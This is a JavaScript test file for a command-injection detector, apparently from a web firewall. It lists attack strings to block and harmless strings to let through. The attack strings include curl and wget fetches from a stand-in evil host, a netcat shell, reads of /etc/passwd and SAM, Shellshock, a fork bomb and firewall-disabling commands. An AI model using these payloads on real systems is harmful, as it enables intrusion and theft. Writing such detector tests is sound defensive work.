// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal "${...}" strings, not templates.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { cmdiDetector } from "../src/detectors/cmdi/index.js";
import { BLOCKS, scoreOf } from "./helpers.js";

describe("command injection detector", () => {
  for (const attack of [
    "; cat /etc/passwd",
    "a|id",
    "x && whoami",
    "`uname -a`",
    "$(curl http://evil.example/x.sh)",
    "|| /usr/bin/id",
    "; c'a't /etc/passwd",
    "; w\\hoami",
    ";cat${IFS}/etc/passwd",
    "() { :;}; /bin/bash -c 'id'",
    "& ipconfig /all",
    "ls -la /etc",
    "wget http://evil.example/shell.sh",
    "; /???/??t /e??/p?ss??",
    "| type C:\\Windows\\win.ini",
    "whoami",
    "' whoami",
    "time sh -c whoami",
    "nice -n 10 curl http://evil.example/x",
    "nohup who",
    "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
    '$SHELL -c "echo hi"',
    ";$a cat /etc/passwd",
    "c''at /etc/passwd",
    "pi``ng 127.0.0.1",
    "{,ifconfig}",
    "c{a,oun}t /etc/passwd",
    "${PATH#{}/}",
    "$((7*7))",
    "alias a=curl&a evil.example",
    ";\n.shell nc 10.0.0.1 6666 -e sh",
    'reg add "HKLM\\System\\X" /v y /t REG_DWORD /d 0 /f',
    "netsh firewall set opmode disable",
    "c89 -wrapper sh,-c,id .",
    "ansible-inventory --list",
    "which nc",
    "x`echo${IFS}hi`",
    "\r\nMAIL FROM:<a@b.example>",
    "\r\na001 EXAMINE INBOX",
    "type %SYSTEMROOT%\\repair\\SAM",
  ]) {
    it(`blocks ${attack}`, () => assert.ok(scoreOf(cmdiDetector, attack) >= BLOCKS, attack));
  }

  for (const benign of [
    "drop me a line",
    "cats & dogs",
    "Tom; cat lovers welcome",
    "fish|chips",
    "ping 127.0.0.1",
    "I use ls and cat every day",
    "Q&A session (part 2)",
    "type 2 diabetes",
    "R&D; find more",
    "exec (",
    "time flies like an arrow",
    "nice weather {a,b} today",
    "which is better?",
    "O'Brien's ''quoted'' text",
    "use `echo` in Markdown prose",
    "Total: $5.00 (incl. tax)",
    "id",
    "lastlog",
    "Data\nList of items",
    "ansible playbook examples",
  ]) {
    it(`lets ${benign} through`, () => assert.ok(scoreOf(cmdiDetector, benign) < BLOCKS, benign));
  }

  it("flags a User-Agent that is a command line, but not a tool's product token", () => {
    assert.ok(scoreOf(cmdiDetector, "ansible-inventory --list", "header", "user-agent") >= BLOCKS);
    assert.ok(scoreOf(cmdiDetector, ";chmod +x evil.php", "header", "user-agent") >= BLOCKS);
    for (const ua of ["curl/8.4.0", "Wget/1.21.4", "python-requests/2.31.0", "Go-http-client/1.1"])
      assert.ok(scoreOf(cmdiDetector, ua, "header", "user-agent") < BLOCKS, ua);
  });

  it("is more careful in User-Agent, where ';' and words are normal", () => {
    const ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
    assert.ok(scoreOf(cmdiDetector, ua, "header", "user-agent") < BLOCKS);
  });
});

describe("cmdi: function definitions", () => {
  it("blocks Shellshock and shell functions wherever a definition starts", () => {
    for (const value of ["() { :;}; /bin/bash -c 'id'", "x=() { :; }; echo hi", "f(){ f|f& };f", "myfunc(){ myfunc|myfunc& };myfunc"])
      assert.ok(scoreOf(cmdiDetector, value) >= BLOCKS, value);
    assert.ok(scoreOf(cmdiDetector, "() { :;}; echo vulnerable", "header", "user-agent") >= BLOCKS);
  });

  it("lets a run of brackets in a code page's punctuation table through", () => {
    const table = "、。.‧;:?!.......,、.·;:?!|–——_╴__()(){}{}〔〕〔〕【】【】《》《》〈〉〈〉「」「」『』『』()";
    assert.ok(scoreOf(cmdiDetector, table, "body", "chars") < BLOCKS);
  });
});
